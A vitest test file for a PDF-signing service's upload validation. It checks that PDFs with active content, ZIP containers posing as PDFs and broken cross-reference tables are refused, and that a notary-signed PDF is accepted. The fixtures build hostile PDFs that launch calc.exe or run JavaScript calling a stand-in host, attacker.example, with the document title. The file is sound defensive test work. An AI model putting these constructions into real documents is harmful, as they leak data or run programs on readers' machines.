import { createHash } from "node:crypto";
import { PDFDocument, PDFHexString, PDFName, PDFNumber, PDFString, type PDFRef } from "@cantoo/pdf-lib";
import { NextRequest } from "next/server";
import { beforeAll, describe, expect, it } from "vitest";
import { POST as createDraftRoute } from "@/app/api/documents/route";
import { POST as uploadFileRoute } from "@/app/api/documents/[documentHexId]/files/route";
import { POST as batchRoute } from "@/app/api/documents/batch/route";
import { db } from "@/lib/db/client";
import { developmentCredentials } from "@/lib/pdf/credentials";
import { buildCadesSignature } from "@/lib/pdf/cms";
import { createTestOrganization, createTestUser, type TestOrganization } from "../support/fixtures";
import { call, clientAddressHeaders, sendRequest } from "../support/http";
import { signIn } from "../support/sign-in";

// Issue 16 point 4: one acceptance rule for every PDF a shipment carries (single upload and batch
// import). Active content, a file that is not a PDF from its first byte, and a broken
// cross-reference table are refused, each with its own message; a PDF signed by someone else is not.

type Answer = { status: number; body: { errorCode?: string; message?: string; files?: { fileName: string; sha256: string }[] } };

let org: TestOrganization;
let token: string;

beforeAll(async () => {
  org = await createTestOrganization();
  token = await signIn((await createTestUser(org)).email);
});

async function upload(bytes: Uint8Array, locale = "es-es"): Promise<Answer> {
  const draft = await call<{ documentHexId: string }>(createDraftRoute, "/api/documents", { token, body: { title: "Contrato" } });
  const documentHexId = draft.body.documentHexId;
  const form = new FormData();
  form.set("file", new File([bytes as BlobPart], "contrato.pdf", { type: "application/pdf" }));
  const request = new NextRequest(`http://127.0.0.1:3000/api/documents/${documentHexId}/files`, {
    method: "POST",
    body: form,
    headers: { authorization: `Bearer ${token}`, ...clientAddressHeaders("203.0.113.70"), "accept-language": locale },
  });
  const response = await sendRequest(uploadFileRoute, request);
  return { status: response.status, body: (await response.json()) as Answer["body"] };
}

/** A two-page contract, then whatever `hostile` adds to it, saved as pdf-lib saves (object streams). */
async function contract(hostile?: (pdf: PDFDocument, page: PDFRef) => void, options: { useObjectStreams?: boolean } = {}) {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawText("Contrato de arrendamiento", { x: 50, y: 780, size: 14 });
  pdf.addPage([595, 842]).drawText("Cláusulas", { x: 50, y: 780, size: 14 });
  hostile?.(pdf, pdf.getPage(0).ref);
  return pdf.save({ useObjectStreams: options.useObjectStreams ?? true });
}

/**
 * A PDF signed by a notary's own software, as an incremental update: a signature field whose value
 * is a detached CAdES signature over the /ByteRange, with nothing of Rúbrica in the file.
 */
async function signedByNotary(original: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(original, { forIncrementalUpdate: true, updateMetadata: false });
  const contentsBytes = 8192;
  const placeholder = "**********";
  const { context } = doc;
  const signature = context.register(
    context.obj({
      Type: "Sig",
      Filter: "Adobe.PPKLite",
      SubFilter: "ETSI.CAdES.detached",
      ByteRange: [0, PDFName.of(placeholder), PDFName.of(placeholder), PDFName.of(placeholder)],
      Contents: PDFHexString.of("0".repeat(contentsBytes * 2)),
      M: PDFString.fromDate(new Date()),
      Name: PDFHexString.fromText("Notaría Central"),
    }),
  );
  const widget = context.register(
    context.obj({
      Type: "Annot",
      Subtype: "Widget",
      FT: "Sig",
      T: PDFHexString.fromText("Firma_Notaria"),
      V: signature,
      F: 132,
      P: doc.getPage(0).ref,
      Rect: [0, 0, 0, 0],
    }),
  );
  doc.getPage(0).node.set(PDFName.of("Annots"), context.obj([widget]));
  const acroForm = doc.catalog.getOrCreateAcroForm();
  acroForm.addField(widget);
  acroForm.dict.set(PDFName.of("SigFlags"), PDFNumber.of(3));
  const bytes = Buffer.from(await doc.save({ useObjectStreams: false }));
  const rangeText = `/ByteRange [ 0 /${placeholder} /${placeholder} /${placeholder} ]`;
  const rangeAt = bytes.indexOf(rangeText, original.byteLength, "latin1");
  const contentsAt = bytes.indexOf(`<${"0".repeat(contentsBytes * 2)}>`, original.byteLength, "latin1");
  expect(rangeAt).toBeGreaterThan(0);
  expect(contentsAt).toBeGreaterThan(0);
  const contentsEnd = contentsAt + contentsBytes * 2 + 2;
  const range = `[0 ${contentsAt} ${contentsEnd} ${bytes.length - contentsEnd}]`;
  bytes.write(`/ByteRange ${range.slice(0, -1)}${" ".repeat(rangeText.length - "/ByteRange ".length - range.length)}]`, rangeAt, "latin1");
  const digest = createHash("sha256").update(bytes.subarray(0, contentsAt)).update(bytes.subarray(contentsEnd)).digest();
  const cms = await buildCadesSignature({ contentDigest: digest, credentials: await developmentCredentials() });
  bytes.write(Buffer.from(cms).toString("hex"), contentsAt + 1, "latin1");
  return new Uint8Array(bytes);
}

const script = () => PDFString.of("app.launchURL('https://attacker.example/?c=' + this.info.title, true);");

const hostileFiles: [string, (pdf: PDFDocument, page: PDFRef) => void][] = [
  [
    "an /OpenAction running JavaScript",
    (pdf) => pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj({ S: "JavaScript", JS: script() })),
  ],
  [
    "an /OpenAction launching a program",
    (pdf) =>
      pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj({ S: "Launch", F: PDFString.of("C:\\Windows\\System32\\calc.exe") })),
  ],
  [
    "a GoTo /OpenAction chaining to JavaScript",
    (pdf, page) =>
      pdf.catalog.set(
        PDFName.of("OpenAction"),
        pdf.context.obj({ S: "GoTo", D: [page, "Fit"], Next: pdf.context.register(pdf.context.obj({ S: "JavaScript", JS: script() })) }),
      ),
  ],
  [
    "a page's additional actions (/AA)",
    (pdf) => pdf.getPage(0).node.set(PDFName.of("AA"), pdf.context.obj({ O: { S: "JavaScript", JS: script() } })),
  ],
  [
    "a document-level /JavaScript name tree",
    (pdf) =>
      pdf.catalog.set(
        PDFName.of("Names"),
        pdf.context.obj({
          JavaScript: { Names: [PDFString.of("init"), pdf.context.register(pdf.context.obj({ S: "JavaScript", JS: script() }))] },
        }),
      ),
  ],
  [
    "a link annotation running JavaScript",
    (pdf) => {
      const annotation = pdf.context.register(
        pdf.context.obj({
          Type: "Annot",
          Subtype: "Link",
          Rect: [50, 700, 250, 720],
          Border: [0, 0, 0],
          A: { S: "JavaScript", JS: script() },
        }),
      );
      pdf.getPage(0).node.set(PDFName.of("Annots"), pdf.context.obj([annotation]));
    },
  ],
  [
    "a form field with a keystroke script",
    (pdf) => {
      const field = pdf.getForm().createTextField("importe");
      field.addToPage(pdf.getPage(1), { x: 50, y: 600, width: 200, height: 20 });
      field.acroField.dict.set(PDFName.of("AA"), pdf.context.obj({ K: { S: "JavaScript", JS: script() } }));
    },
  ],
];

describe("a PDF with active content", () => {
  it.each(hostileFiles)("is refused: %s", async (_name, hostile) => {
    const before = await db.documentFile.count({ where: { document: { organizationId: org.organization.id } } });
    const answer = await upload(await contract(hostile));
    expect(answer.status).toBe(400);
    expect(answer.body.errorCode).toBe("SHIPMENT_FILE_ACTIVE_CONTENT");
    expect(answer.body.message).toBe(
      "El PDF contiene contenido activo (JavaScript, acciones automáticas o apertura de programas) y no se puede enviar a firmar. Guárdelo sin él, por ejemplo imprimiéndolo como PDF, y súbalo de nuevo.",
    );
    expect(await db.documentFile.count({ where: { document: { organizationId: org.organization.id } } })).toBe(before);
  });

  it("is refused in English too", async () => {
    const answer = await upload(await contract(hostileFiles[0]![1]), "en-us");
    expect(answer.body.message).toBe(
      "The PDF contains active content (JavaScript, automatic actions or program launches) and cannot be sent for signing. Save it without it, for example by printing it to PDF, and upload it again.",
    );
  });

  it("is refused in a batch import, on its row", async () => {
    const expiration = new Date(Date.now() + 10 * 24 * 3600_000).toISOString().slice(0, 10);
    const header =
      "envío;título;descripción;fecha de expiración;flujo;tipo de documento;archivo;orden;mínimo de firmantes;nombre;apellidos;correo electrónico;teléfono;obligatorio;puede rechazar;idioma";
    const form = new FormData();
    form.set("sheet", new File([`${header}\r\nJ1;Contrato;Texto;${expiration};;;script.pdf;;;Ana;Gil;ana.js@gil.test;;;;`], "lote.csv"));
    form.append("files", new File([(await contract(hostileFiles[0]![1])) as BlobPart], "script.pdf", { type: "application/pdf" }));
    const request = new NextRequest("http://127.0.0.1:3000/api/documents/batch", {
      method: "POST",
      body: form,
      headers: { authorization: `Bearer ${token}`, ...clientAddressHeaders("203.0.113.71") },
    });
    const response = await sendRequest(batchRoute, request);
    const body = (await response.json()) as { errors?: { row: number; column: string; errorCode: string }[] };
    expect(response.status).toBe(422);
    expect(body.errors).toMatchObject([{ row: 2, column: "file", errorCode: "SHIPMENT_FILE_ACTIVE_CONTENT" }]);
  });
});

describe("a PDF without active content", () => {
  it("is accepted with an /OpenAction that only opens a page view", async () => {
    const answer = await upload(await contract((pdf, page) => pdf.catalog.set(PDFName.of("OpenAction"), pdf.context.obj([page, "Fit"]))));
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
  });

  it("is accepted when a third party signed it, byte for byte", async () => {
    const signed = await signedByNotary(await contract(undefined, { useObjectStreams: false }));
    const loaded = await PDFDocument.load(signed);
    expect(
      loaded
        .getForm()
        .getFields()
        .map((f) => f.getName()),
    ).toEqual(["Firma_Notaria"]);
    const answer = await upload(signed);
    expect(answer.status, JSON.stringify(answer.body)).toBe(201);
    expect(answer.body.files?.[0]?.sha256).toBe(createHash("sha256").update(signed).digest("hex"));
  });
});

describe("a file that is not a PDF from its first byte", () => {
  it("is refused when it is a ZIP with %PDF- in its first kilobyte", async () => {
    const pdf = await contract();
    const zipHeader = Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]),
      Buffer.alloc(20),
      Buffer.from("contrato.pdf"),
    ]);
    const zip = new Uint8Array(Buffer.concat([zipHeader, Buffer.from(pdf), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18)]));
    const answer = await upload(zip);
    expect(answer.status).toBe(400);
    expect(answer.body.errorCode).toBe("SHIPMENT_FILE_CONTAINER");
    expect(answer.body.message).toBe(
      "El archivo no es un PDF: no empieza como un PDF, aunque lleve uno dentro (por ejemplo, un ZIP). Suba el PDF en sí.",
    );
  });
});

/** The classic cross-reference table of a file saved without object streams: where it starts and ends. */
function xrefTable(bytes: Uint8Array) {
  const text = Buffer.from(bytes).toString("latin1");
  const start = text.lastIndexOf("\nxref") + 1;
  const end = text.indexOf("trailer", start);
  return { text, start, end };
}

describe("a PDF whose cross-reference table is broken", () => {
  const damagedMessage =
    "El PDF está dañado: su tabla de referencias cruzadas no es válida. No se ha guardado ni reparado: ábralo y guárdelo de nuevo con su editor de PDF, y vuelva a subirlo.";

  it("is refused as damaged when the table is garbage", async () => {
    const bytes = await contract(undefined, { useObjectStreams: false });
    const { start, end } = xrefTable(bytes);
    const garbage = Buffer.alloc(end - start, "Zx9#");
    const damaged = new Uint8Array(bytes);
    damaged.set(garbage, start);
    expect(await PDFDocument.load(damaged).then((d) => d.getPageCount())).toBe(2);
    const answer = await upload(damaged);
    expect(answer.status).toBe(400);
    expect(answer.body).toMatchObject({ errorCode: "SHIPMENT_FILE_DAMAGED", message: damagedMessage });
  });

  it("is refused as damaged when its entries point at the wrong places", async () => {
    const bytes = await contract(undefined, { useObjectStreams: false });
    const { text, start, end } = xrefTable(bytes);
    const shifted = text
      .slice(start, end)
      .replace(/^(\d{10}) 00000 n/gm, (_m, offset: string) => `${String(Number(offset) + 7).padStart(10, "0")} 00000 n`);
    const damaged = Buffer.from(text.slice(0, start) + shifted + text.slice(end), "latin1");
    const answer = await upload(new Uint8Array(damaged));
    expect(answer.status).toBe(400);
    expect(answer.body.errorCode).toBe("SHIPMENT_FILE_DAMAGED");
  });

  it("is refused as damaged when startxref points nowhere", async () => {
    const text = Buffer.from(await contract()).toString("latin1");
    const damaged = text.replace(
      /startxref\s+(\d+)\s+%%EOF\s*$/,
      (_m, offset: string) => `startxref\n${Number(offset) + 999_999}\n%%EOF\n`,
    );
    const answer = await upload(new Uint8Array(Buffer.from(damaged, "latin1")));
    expect(answer.status).toBe(400);
    expect(answer.body.errorCode).toBe("SHIPMENT_FILE_DAMAGED");
  });

  it("while intact tables, classic or in a stream, are accepted", async () => {
    expect((await upload(await contract(undefined, { useObjectStreams: false }))).status).toBe(201);
    expect((await upload(await contract())).status).toBe(201);
  });
});
